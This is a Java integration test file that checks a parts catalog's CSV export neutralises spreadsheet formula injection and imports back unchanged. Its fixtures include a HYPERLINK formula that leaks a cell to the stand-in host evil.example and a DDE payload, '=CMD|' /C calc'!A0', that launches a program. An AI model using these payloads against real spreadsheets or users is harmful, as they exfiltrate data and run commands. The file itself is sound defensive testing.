package io.traveler.catalog;

import static org.assertj.core.api.Assertions.assertThat;

import io.traveler.shared.tenancy.Tenant;
import io.traveler.shared.tenancy.TenantContext;
import io.traveler.testing.Api;
import io.traveler.testing.ApplicationTest;
import java.io.IOException;
import java.io.StringReader;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.transaction.support.TransactionTemplate;
import tools.jackson.databind.JsonNode;

/** An export opened in a spreadsheet runs nothing, and importing it back gives the same catalog. */
@ApplicationTest
class CsvInjectionTests {
    private static final List<String> FORMULAS = List.of(
            "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")",
            "+1",
            "-x",
            "@SUM(A1:A9)",
            "-5 mm washer",
            "'=already quoted",
            "''+twice quoted",
            "'plain apostrophe",
            "=1+1, with a comma");

    @LocalServerPort
    int port;

    @Autowired
    JdbcClient jdbc;

    @Autowired
    TransactionTemplate transactions;

    Api api;
    Api.Tenant owner;

    @BeforeEach
    void setUp() {
        api = new Api(port);
        owner = api.signUp("FACTORY");
    }

    @Test
    void theExportNeverEmitsACellAFormulaCouldStartFrom() throws IOException {
        for (int i = 0; i < FORMULAS.size(); i++) {
            part("INJ-" + i, FORMULAS.get(i), "ea");
        }
        part("=CMD|' /C calc'!A0", "Number as formula", "@ea");
        UUID tab = part("INJ-TAB", "placeholder", "ea");
        UUID cr = part("INJ-CR", "placeholder", "ea");
        // the API trims names; a value stored some other way must be guarded just the same
        rename(tab, "\tTab");
        rename(cr, "\rCR");

        var export = api.get("/api/catalog/parts/export").as(owner).send();

        assertThat(export.status()).isEqualTo(200);
        List<String> cells = cells(export.raw().body());
        assertThat(cells).hasSizeGreaterThan(5 * (FORMULAS.size() + 3));
        assertThat(cells)
                .noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0)
                .contains("'" + FORMULAS.getFirst(), "'+1", "'-x", "'@SUM(A1:A9)", "'-5 mm washer")
                .contains("''=already quoted", "'''+twice quoted", "'plain apostrophe")
                .contains("'\tTab", "'\rCR", "'=CMD|' /C calc'!A0", "'@ea");
    }

    @Test
    void anExportImportsBackToTheSameNames() throws IOException {
        for (int i = 0; i < FORMULAS.size(); i++) {
            part("RT-" + i, FORMULAS.get(i), i % 2 == 0 ? "ea" : "-m");
        }
        String exported =
                api.get("/api/catalog/parts/export").as(owner).send().raw().body();

        var elsewhere = api.signUp("FACTORY");
        var started = api.post("/api/imports/parts").as(elsewhere).csv(exported).send();
        assertThat(started.status()).as(started.toString()).isEqualTo(202);
        JsonNode job = awaitJob(elsewhere, started.text("id"));

        assertThat(job.path("failed_rows").asInt()).as(job.toString()).isZero();
        assertThat(names(elsewhere)).isEqualTo(names(owner)).containsValues(FORMULAS.toArray(String[]::new));
        assertThat(api.get("/api/catalog/parts/export")
                        .as(elsewhere)
                        .send()
                        .raw()
                        .body())
                .isEqualTo(exported);
    }

    private UUID part(String number, String name, String unit) {
        var created = api.post("/api/catalog/parts")
                .as(owner)
                .body(Map.of("part_number", number, "name", name, "kind", "COMPONENT", "unit_of_measure", unit))
                .send();
        assertThat(created.status()).as(created.toString()).isEqualTo(201);
        return created.id();
    }

    private void rename(UUID part, String name) {
        TenantContext.runAs(
                Tenant.user(owner.orgId(), owner.userId()),
                () -> transactions.executeWithoutResult(
                        s -> jdbc.sql("update catalog.parts set name = :name where id = :id")
                                .param("name", name)
                                .param("id", part)
                                .update()));
    }

    private Map<String, String> names(Api.Tenant tenant) {
        var names = new java.util.TreeMap<String, String>();
        api.get("/api/catalog/parts?limit=500")
                .as(tenant)
                .send()
                .json()
                .path("items")
                .forEach(p -> names.put(
                        p.path("part_number").asString(), p.path("name").asString()));
        return names;
    }

    private JsonNode awaitJob(Api.Tenant tenant, String id) {
        long deadline = System.nanoTime() + 10_000_000_000L;
        while (System.nanoTime() < deadline) {
            var job = api.get("/api/import-jobs/" + id).as(tenant).send();
            if (!List.of("QUEUED", "RUNNING").contains(job.json().path("status").asString())) {
                return job.json();
            }
            try {
                Thread.sleep(50);
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
                throw new AssertionError(e);
            }
        }
        throw new AssertionError("import " + id + " still running after 10 s");
    }

    private static List<String> cells(String csv) throws IOException {
        List<String> cells = new ArrayList<>();
        try (var parser = CSVFormat.DEFAULT.parse(new StringReader(csv))) {
            for (CSVRecord record : parser) {
                record.forEach(cells::add);
            }
        }
        return cells;
    }
}
